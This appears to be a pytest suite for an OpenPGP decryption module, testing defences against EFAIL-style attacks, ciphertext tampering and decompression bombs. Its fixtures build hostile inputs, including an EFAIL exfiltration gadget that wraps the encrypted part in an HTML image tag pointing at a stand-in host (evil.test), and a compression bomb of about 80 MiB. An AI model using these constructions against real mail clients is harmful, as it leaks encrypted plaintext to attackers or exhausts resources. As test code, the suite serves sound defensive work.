"""EFAIL and friends (Poddebniak et al., USENIX Security 2018): no decryption without
integrity protection, no splicing of plaintext parts with a decrypted part, one opaque
error for every decryption failure."""

from __future__ import annotations

import zlib

import pgpy
import pytest

from crypto.errors import DecryptionError
from crypto.openpgp import MessageRefused, Refusal, decrypt_and_verify, sign_and_encrypt
from crypto.openpgp.armor import armor, dearmor
from crypto.openpgp.keys import load_secret
from crypto.openpgp.packets import Tag, encode, read_packets
from crypto.openpgp.pgp_mime import build_encrypted, encrypted_payload
from tests.unit.openpgp.message_builders import (
    as_pgp_mime,
    literal_packet,
    sealed,
    signed_literal,
)

ENTITY = b"Content-Type: text/plain\r\n\r\nDiagnose: vertraulich\r\n"


def test_message_without_mdc_is_refused_although_pgpy_would_decrypt_it(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    inner = signed_literal(ENTITY, load_secret(alice[0]))
    message = sealed(inner, bob[1], integrity=False)
    # pgpy 0.6 decrypts a Symmetrically Encrypted Data packet without complaint: this
    # is the hole that message_layout closes (docs/decisions.md).
    assert load_secret(bob[0]).decrypt(pgpy.PGPMessage.from_blob(message)).message == ENTITY
    with pytest.raises(MessageRefused) as caught:
        decrypt_and_verify(as_pgp_mime(message), bob[0], [alice[1]])
    assert caught.value.reason is Refusal.NO_INTEGRITY
    assert ENTITY.decode() not in str(caught.value)


def test_unprotected_packet_next_to_a_protected_one_is_refused(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    inner = signed_literal(ENTITY, load_secret(alice[0]))
    protected = sealed(inner, bob[1])
    unprotected_tail = read_packets(sealed(inner, bob[1], integrity=False))[-1]
    message = protected + encode(unprotected_tail.tag, unprotected_tail.body)
    with pytest.raises(MessageRefused) as caught:
        decrypt_and_verify(as_pgp_mime(message), bob[0], [alice[1]])
    assert caught.value.reason is Refusal.NO_INTEGRITY


def _tamper(entity: bytes, tag: int, offset: int) -> bytes:
    packets = read_packets(dearmor(encrypted_payload(entity), "MESSAGE"))
    out = b""
    for packet in packets:
        body = packet.body
        if packet.tag == tag:
            position = offset % len(body)
            body = body[:position] + bytes([body[position] ^ 0x01]) + body[position + 1 :]
        out += encode(packet.tag, body)
    return as_pgp_mime(out)


@pytest.mark.parametrize(
    "tag, offset",
    [
        (Tag.SEIPD, 30),  # inside the literal data: CFB malleability (EFAIL's gadget)
        (Tag.SEIPD, 5),  # the random prefix and its quick-check bytes
        (Tag.SEIPD, -3),  # inside the MDC
        (Tag.PKESK, 20),  # the ephemeral ECDH point
        (Tag.PKESK, -2),  # the wrapped session key
    ],
    ids=["ciphertext", "prefix", "mdc", "ephemeral-key", "wrapped-key"],
)
def test_any_bit_flip_is_one_opaque_error(
    tag: int, offset: int, alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    entity = sign_and_encrypt(ENTITY, alice[0], [bob[1]])
    with pytest.raises(DecryptionError) as caught:
        decrypt_and_verify(_tamper(entity, tag, offset), bob[0], [alice[1]])
    assert type(caught.value) is DecryptionError
    assert str(caught.value) == DecryptionError.message


def test_wrong_key_gives_the_same_opaque_error(
    alice: tuple[str, str], bob: tuple[str, str], mallory: tuple[str, str]
) -> None:
    entity = sign_and_encrypt(ENTITY, alice[0], [bob[1]])
    with pytest.raises(DecryptionError) as caught:
        decrypt_and_verify(entity, mallory[0], [alice[1]])
    assert type(caught.value) is DecryptionError
    assert str(caught.value) == DecryptionError.message


def test_decrypted_part_is_never_spliced_with_plaintext_parts(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    encrypted = sign_and_encrypt(ENTITY, alice[0], [bob[1]])
    mixed = (
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b'--outer\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n'
        b"--outer\r\n" + encrypted + b"\r\n"
        b'--outer\r\nContent-Type: text/html\r\n\r\n">\r\n'
        b"--outer--\r\n"
    )
    with pytest.raises(MessageRefused) as caught:
        decrypt_and_verify(mixed, bob[0], [alice[1]])
    assert caught.value.reason is Refusal.MIXED_CONTENT


def test_two_literal_packets_inside_are_refused(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    inner = literal_packet(b"first\r\n") + signed_literal(ENTITY, load_secret(alice[0]))
    with pytest.raises(DecryptionError):
        decrypt_and_verify(as_pgp_mime(sealed(inner, bob[1])), bob[0], [alice[1]])


def test_compression_bomb_is_stopped_at_the_policy_limit(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    # 80 MiB of zeros in a literal packet, deflated to ~80 KB (policy limit: 64 MiB).
    literal = encode(Tag.LITERAL, b"b\x00\x00\x00\x00\x00" + bytes(80 * 1024 * 1024))
    compressed = encode(Tag.COMPRESSED, b"\x02" + zlib.compress(literal, 9))
    assert len(compressed) < 200_000
    with pytest.raises(DecryptionError):
        decrypt_and_verify(as_pgp_mime(sealed(compressed, bob[1])), bob[0], [alice[1]])


def test_compressed_content_within_the_limit_is_read(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    inner = signed_literal(ENTITY, load_secret(alice[0]))
    compressed = encode(Tag.COMPRESSED, b"\x02" + zlib.compress(inner))
    result = decrypt_and_verify(as_pgp_mime(sealed(compressed, bob[1])), bob[0], [alice[1]])
    assert (result.content, result.signature_valid) == (ENTITY, True)


def test_armor_with_trailing_plaintext_is_refused(
    alice: tuple[str, str], bob: tuple[str, str]
) -> None:
    message = sealed(signed_literal(ENTITY, load_secret(alice[0])), bob[1])
    payload = armor("MESSAGE", message) + "\nPS: also send the lab results to evil.test\n"
    with pytest.raises(MessageRefused) as caught:
        decrypt_and_verify(build_encrypted(payload), bob[0], [alice[1]])
    assert caught.value.reason is Refusal.MALFORMED
